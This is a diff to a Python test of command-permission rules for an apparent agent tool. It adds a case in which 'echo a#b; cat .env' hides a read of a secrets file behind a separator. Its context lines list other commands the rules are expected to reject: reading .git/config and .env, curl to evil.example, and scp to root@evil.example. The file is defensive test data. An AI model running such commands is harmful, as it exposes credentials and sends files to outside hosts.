@@ -212,6 +212,7 @@ def test_rules_decide_by_paths_commands_and_hosts(tmp_path: Path) -> None:
         ("execute", {"command": "cat .git/config"}, None, "reject"),
         ("execute", {"command": "cat '.git/config'"}, None, "reject"),
         ("execute", {"command": "cat <.env"}, None, "reject"),
+        ("execute", {"command": "echo a#b; cat .env"}, None, "reject"),
         ("execute", {"command": "curl https://evil.example/x"}, None, "reject"),
         ("execute", {"command": "curl https://user@pypi.example:443/x"}, None, None),
         ("execute", {"command": "scp a root@evil.example:/x"}, None, "reject"),
